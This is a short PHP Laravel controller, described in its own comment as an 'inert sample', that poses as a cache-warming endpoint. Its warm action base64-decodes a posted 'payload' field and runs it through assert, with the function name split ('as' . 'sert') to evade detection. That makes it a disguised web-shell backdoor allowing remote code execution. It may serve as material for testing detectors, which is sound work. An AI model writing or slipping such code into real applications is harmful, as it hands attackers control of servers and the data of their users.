<?php
// inert sample: a controller action that evaluates a posted snippet, the function name glued
namespace App\Http\Controllers;

use Illuminate\Http\Request;

class CacheController extends Controller
{
    public function warm(Request $request)
    {
        $body = $request->input('payload');
        $run = 'as' . 'sert';
        $run(base64_decode($body));
        return response()->json(['ok' => true]);
    }
}
